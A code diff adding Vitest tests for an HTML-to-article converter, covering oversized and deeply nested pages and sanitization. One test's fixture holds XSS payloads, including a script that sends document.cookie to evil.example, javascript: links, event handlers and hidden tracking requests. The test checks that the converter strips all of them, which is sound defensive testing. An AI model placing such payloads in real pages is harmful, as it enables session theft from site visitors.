@@ -1,6 +1,8 @@
 /** The HTML pipeline on small pages: what structure survives, and where the metadata comes from. */
 import { describe, expect, it } from 'vitest';
 import { htmlToArticle, NOT_AN_ARTICLE_MESSAGE } from '../html-to-article';
+import { PAGE_LIMITS } from '../import-budget';
+import { activeContentIn } from '../test-support/import-fixture';
 
 describe('htmlToArticle', () => {
   it('keeps headings, lists, quotes, tables, code and emphasis; links only for http(s) and mailto; images never', async () => {
@@ -60,5 +62,51 @@ describe('htmlToArticle', () => {
 
   it('refuses a page with no words', async () => {
     await expect(htmlToArticle('<html><body><img src="x.png"><script>1</script></body></html>')).rejects.toThrow(NOT_AN_ARTICLE_MESSAGE);
+  });
+
+  it('keeps a page past reader mode\'s size whole, its <main> when it has one, and says so', async () => {
+    const rows = Array.from({ length: PAGE_LIMITS.readerElements / 2 }, (_, row) => `<tr><td>${row}</td></tr>`).join('');
+    const page = `<html><head><title>Tide tables</title></head><body><nav><a href="/">Home</a> · Menu</nav><main><h1>Tides</h1><p>From <a href="/almanac">the almanac</a>.</p><table>${rows}</table></main></body></html>`;
+    const article = await htmlToArticle(page, 'https://example.org/tides/');
+    expect(article.notice).toBe(
+      `The whole page was kept, menus and all, without reader mode: it has ${(PAGE_LIMITS.readerElements + 11).toLocaleString('en')} elements, and reader mode reads pages of up to ${PAGE_LIMITS.readerElements.toLocaleString('en')}.`,
+    );
+    expect(article.title).toBe('Tide tables');
+    expect(article.doc.blocks.slice(0, 2)).toEqual([
+      { type: 'heading', level: 1, children: [{ type: 'text', text: 'Tides' }] },
+      // Links made absolute, as reader mode makes them.
+      { type: 'paragraph', children: [{ type: 'text', text: 'From ' }, { type: 'link', href: 'https://example.org/almanac', children: [{ type: 'text', text: 'the almanac' }] }, { type: 'text', text: '.' }] },
+    ]);
+    expect(JSON.stringify(article.doc)).not.toContain('Menu');
+  });
+
+  it.each([
+    ['its body', (inside: string) => `<body>${inside}</body>`],
+    ['its <main>', (inside: string) => `<body><main>${inside}</main></body>`],
+  ])('sanitizes a page kept whole (%s) as strictly as reader mode\'s article', async (_where, wrap) => {
+    const hostile = `<p onclick="alert(1)">Dock workers said the cranes <a href="javascript:alert(2)">lift</a> twice the load, see <a href="https://example.org/cranes">the cranes</a>.</p>
+      <script>fetch('https://evil.example/?c=' + document.cookie)</script><style>p { background: url(https://evil.example/p.png) }</style>
+      <img src="https://evil.example/pixel.gif" onerror="alert(3)"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/post"><input name="q"></form>
+      <svg><script>alert(4)</script></svg><p style="background:url(https://evil.example/bg.png)">More words.</p>`;
+    const filler = '<span>w</span>'.repeat(PAGE_LIMITS.readerElements);
+    const article = await htmlToArticle(`<html><head><title>Cranes</title></head>${wrap(`${hostile}<p>${filler}</p>`)}</html>`);
+    expect(article.notice).toMatch(/without reader mode/);
+    expect(activeContentIn(article.html)).toEqual([]);
+    expect(article.html).toContain('<a href="https://example.org/cranes">the cranes</a>');
+    expect(JSON.stringify(article.doc)).not.toMatch(/evil|alert|cookie/);
+  });
+
+  it('keeps a deeply nested page whole, and flattens what nests past the limit', async () => {
+    const nested = (levels: number) => `<html><body>${'<div>'.repeat(levels)}<p>Deep words.</p>${'</div>'.repeat(levels)}</body></html>`;
+    expect((await htmlToArticle(nested(PAGE_LIMITS.readerDepth + 10))).notice).toBe(
+      `The whole page was kept, menus and all, without reader mode: its elements nest ${PAGE_LIMITS.readerDepth + 11} deep, and reader mode reads pages nested up to ${PAGE_LIMITS.readerDepth} deep.`,
+    );
+    const flattened = await htmlToArticle(nested(PAGE_LIMITS.depth * 4));
+    expect(flattened.notice).toMatch(/ Elements nested more than 256 deep were flattened; their words are kept\.$/);
+    expect(flattened.doc.blocks).toEqual([{ type: 'paragraph', children: [{ type: 'text', text: 'Deep words.' }] }]);
+  });
+
+  it('reads an article-sized page through reader mode with no notice', async () => {
+    expect((await htmlToArticle('<html><body><article><p>The harbour reopened on Monday after three weeks of repairs.</p></article></body></html>')).notice).toBeUndefined();
   });
 });
